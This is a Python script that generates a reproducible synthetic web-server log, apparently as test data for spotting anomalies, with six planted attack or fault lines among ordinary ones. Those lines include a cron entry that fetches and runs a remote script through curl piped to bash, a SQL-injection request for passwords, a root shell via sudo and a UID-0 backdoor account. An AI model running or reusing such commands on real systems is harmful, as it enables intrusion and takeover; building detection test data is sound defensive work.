"""Write the log of a web server's day, the same bytes from the same seed everywhere.

    python corpora/log_lines.py [OUT_DIR]

- ``log.txt``: 2,000 ordinary lines of the morning.
- ``log_new.txt``: 600 lines of the afternoon, six of which tell of a fault or an attack (`FAULTS`).
"""

import argparse
from collections.abc import Iterator
from pathlib import Path
from random import Random

SEED = 20261
ORDINARY, NEW = 2000, 600
LONGEST_PAUSE = 20  # seconds between two lines
FAULTS = (
    "sudo: www-data : TTY=unknown ; PWD=/tmp/.X ; USER=root ; COMMAND=/bin/bash",
    "CRON[888]: (www-data) CMD (curl -s http://185.220.101.4/x.sh | bash)",
    "kernel: Out of memory: Killed process 2291 (mysqld) total-vm:4123412kB",
    "systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
    'nginx: 45.9.148.3 - - "GET /index.html?id=1%27%20UNION%20SELECT%20password HTTP/1.1" 200 1842 "curl/7.88.1"',
    "useradd[3020]: new user: name=support2, UID=0, GID=0, home=/, shell=/bin/sh",
)
USERS = ("anna", "bob", "carla", "deploy", "backup")
GUESSES = ("admin", "test", "oracle", "guest", "pi")
PATHS = ("/", "/index.html", "/login", "/api/v1/items", "/api/v1/users", "/static/app.js", "/static/site.css")
AGENTS = ("Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.88.1")
UNITS = ("Daily apt download activities.", "Rotate log files.", "Cleanup of Temporary Directories.")


def ordinary_line(draw: Random) -> str:
    """Return an ordinary line, without its time."""
    one, user, pid = draw.choice, draw.choice(USERS), draw.randrange(400, 32000)
    inside = f"10.0.{draw.randrange(4)}.{draw.randrange(2, 250)}"
    outside = ".".join(str(draw.randrange(1, 224)) for _ in range(4))
    port, size = draw.randrange(32768, 61000), draw.randrange(120, 48000)
    request = f"{one(('GET', 'GET', 'GET', 'POST'))} {one(PATHS)}"
    visit = f'nginx: {outside} - - "{request} HTTP/1.1" {one((200, 200, 200, 304, 404))} {size} "{one(AGENTS)}"'
    return one(
        (
            *[visit] * 6,
            f"sshd[{pid}]: Accepted publickey for {user} from {inside} port {port} ssh2",
            f"sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={1000 + len(user)}) by (uid=0)",
            f"sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}",
            f"sshd[{pid}]: Failed password for invalid user {one(GUESSES)} from {outside} port {port} ssh2",
            f"sshd[{pid}]: Connection closed by {outside} port {port} [preauth]",
            f"CRON[{pid}]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)",
            f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            f"systemd[1]: Started Session {draw.randrange(1, 9000)} of user {user}.",
            f"systemd[1]: {one(('Starting', 'Started', 'Finished'))} {one(UNITS)}",
            f"postfix/qmgr[841]: {draw.randrange(16**10):010X}: removed",
            f"sudo: {one(('anna', 'deploy'))} : TTY=pts/{draw.randrange(4)} ; PWD=/var/www ; USER=root ;"
            f" COMMAND=/usr/bin/{one(('systemctl reload nginx', 'apt update', 'journalctl -n 50'))}",
        )
    )


def log_lines(draw: Random) -> Iterator[str]:
    """Yield all lines, first those of `log.txt`."""
    places = sorted(draw.sample(range(ORDINARY, ORDINARY + NEW), len(FAULTS)))
    planted = dict(zip(places, draw.sample(FAULTS, len(FAULTS)), strict=True))
    seconds = 6 * 3600
    for number in range(ORDINARY + NEW):
        seconds += draw.randrange(LONGEST_PAUSE)
        time = f"{seconds // 3600:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}"
        yield f"Oct 07 {time} web1 {planted.get(number) or ordinary_line(draw)}\n"


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out_dir", nargs="?", type=Path, default=Path(__file__).parent)
    folder = parser.parse_args().out_dir
    lines = list(log_lines(Random(SEED)))
    (folder / "log.txt").write_text("".join(lines[:ORDINARY]))
    (folder / "log_new.txt").write_text("".join(lines[ORDINARY:]))
